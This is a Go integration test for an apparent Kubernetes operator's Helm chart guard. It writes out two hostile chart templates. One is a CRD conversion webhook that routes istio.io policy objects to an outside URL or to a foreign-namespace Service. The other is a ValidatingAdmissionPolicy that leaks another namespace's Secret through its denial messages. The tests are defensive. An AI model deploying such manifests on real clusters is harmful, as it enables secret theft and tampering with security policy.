//go:build envtest

/*
Copyright 2026 The meshkeeper Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package helm

import (
	"errors"
	"strings"
	"testing"
	"time"

	"helm.sh/helm/v4/pkg/chart/common"
	chartv2 "helm.sh/helm/v4/pkg/chart/v2"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/meshkeeper/meshkeeper/internal/charts"
)

// attackChart is a chart from a repository whose content no one vetted, with one template.
func attackChart(name, template string) *chartv2.Chart {
	return &chartv2.Chart{
		Metadata:  &chartv2.Metadata{APIVersion: chartv2.APIVersionV2, Name: name, Version: "0.1.0"},
		Templates: []*common.File{{Name: "templates/" + name + ".yaml", Data: []byte(template)}},
	}
}

// attackRelease is the release of chart in namespace, owned by a ServiceMesh.
func attackRelease(namespace string, chart *chartv2.Chart) Release {
	return Release{Name: chart.Name(), Namespace: namespace, Chart: chart, ChartDigest: charts.Digest(chart),
		Owner: Owner{APIVersion: "mesh.meshkeeper.io/v1alpha1", Kind: "ServiceMesh", Name: "default", UID: "uid-1"}}
}

// expectRefused fails unless err is the chart guard's refusal and says each of want.
func expectRefused(t *testing.T, err error, want ...string) {
	t.Helper()
	if !errors.Is(err, ErrRefusedObject) {
		t.Fatalf("the release was not refused by the chart guard: %v", err)
	}
	for _, w := range want {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("the refusal does not say %q:\n%v", w, err)
		}
	}
}

// TestAChartCannotSendIstioResourcesToAConversionWebhook: a CustomResourceDefinition of an istio.io
// group with a conversion webhook has the API server send every object of that kind read or written in
// another version than the stored one to the webhook, which may rewrite it (an AuthorizationPolicy's
// DENY served as ALLOW). A chart that renders one calling a URL, or a Service outside the release
// namespace, is refused as a webhook configuration is, and the CRD is not created.
func TestAChartCannotSendIstioResourcesToAConversionWebhook(t *testing.T) {
	m, c, ns := onAPIServer(t)
	group := ns + ".istio.io"
	crd := func(clientConfig string) string {
		return `apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata:
  name: policies.` + group + `
spec:
  group: ` + group + `
  names: {kind: Policy, listKind: PolicyList, plural: policies, singular: policy}
  scope: Namespaced
  versions:
  - name: v1
    served: true
    storage: true
    schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}
  - name: v1beta1
    served: true
    storage: false
    schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}
  conversion:
    strategy: Webhook
    webhook:
      conversionReviewVersions: [v1]
      clientConfig:
` + clientConfig
	}
	for _, tc := range []struct{ name, clientConfig, refused string }{
		{"a URL", "        url: https://collector.example.com/convert\n",
			"CustomResourceDefinition policies." + group + ", which sends conversion webhook to a URL rather than a Service"},
		{"a Service in another namespace", "        service: {name: collector, namespace: team-a}\n",
			"CustomResourceDefinition policies." + group + ", which sends conversion webhook to Service team-a/collector, outside the release namespace"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := m.Ensure(t.Context(), attackRelease(ns, attackChart("converter", crd(tc.clientConfig))))
			if got := (&apiextensionsv1.CustomResourceDefinition{}); c.Get(t.Context(), client.ObjectKey{Name: "policies." + group}, got) == nil {
				t.Errorf("the CRD was created with conversion %+v", got.Spec.Conversion)
				_ = c.Delete(t.Context(), got)
			}
			expectRefused(t, err, tc.refused, "(rule: "+ruleAdmission+")")
		})
	}
}

// TestAChartCannotReadSecretsThroughAnAdmissionPolicy: a ValidatingAdmissionPolicy with parameters
// (paramKind) has the API server read the object its binding's paramRef names, in any namespace, and
// its messageExpression may write that object into the denial every matching request gets. A chart
// that renders a policy reading another namespace's Secret, and a binding that denies creating a
// ConfigMap in a namespace its author may write, would hand the author the Secret with meshkeeper's
// right to read every Secret. Such a chart is refused, and neither object is created.
func TestAChartCannotReadSecretsThroughAnAdmissionPolicy(t *testing.T) {
	m, c, ns := onAPIServer(t)
	victim := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "victim-"}}
	if err := c.Create(t.Context(), victim); err != nil {
		t.Fatal(err)
	}
	secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: victim.Name, Name: "db"},
		Data: map[string][]byte{"password": []byte("s3cr3t-of-the-victim")}}
	if err := c.Create(t.Context(), secret); err != nil {
		t.Fatal(err)
	}
	attacker := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "attacker-"}}
	if err := c.Create(t.Context(), attacker); err != nil {
		t.Fatal(err)
	}
	policyName := "leak-" + ns
	chart := attackChart("leak", `apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata:
  name: `+policyName+`
spec:
  failurePolicy: Fail
  paramKind: {apiVersion: v1, kind: Secret}
  matchConstraints:
    resourceRules:
    - {apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [configmaps]}
  validations:
  - expression: "false"
    messageExpression: "string(params.data.password)"
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata:
  name: `+policyName+`
spec:
  policyName: `+policyName+`
  validationActions: [Deny]
  paramRef: {name: db, namespace: `+victim.Name+`, parameterNotFoundAction: Deny}
  matchResources:
    namespaceSelector:
      matchLabels: {kubernetes.io/metadata.name: `+attacker.Name+`}
`)
	_, err := m.Ensure(t.Context(), attackRelease(ns, chart))
	if binding := (&admissionregistrationv1.ValidatingAdmissionPolicyBinding{}); c.Get(t.Context(), client.ObjectKey{Name: policyName}, binding) == nil {
		// What the author of the chart then reads by creating a ConfigMap in their own namespace.
		leaked := ""
		deadline := time.Now().Add(30 * time.Second)
		for leaked == "" && time.Now().Before(deadline) {
			probe := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: attacker.Name, GenerateName: "probe-"}}
			if err := c.Create(t.Context(), probe); apierrors.IsInvalid(err) || apierrors.IsForbidden(err) {
				leaked = err.Error()
			}
			time.Sleep(200 * time.Millisecond)
		}
		t.Errorf("the policy and its binding were created; a ConfigMap created in %s is denied with: %s", attacker.Name, leaked)
		_ = c.Delete(t.Context(), binding)
		_ = c.Delete(t.Context(), &admissionregistrationv1.ValidatingAdmissionPolicy{ObjectMeta: metav1.ObjectMeta{Name: policyName}})
	}
	expectRefused(t, err, "ValidatingAdmissionPolicy "+policyName+", which reads parameters of kind v1/Secret (paramKind)",
		"(rule: "+ruleAdmission+")")
}
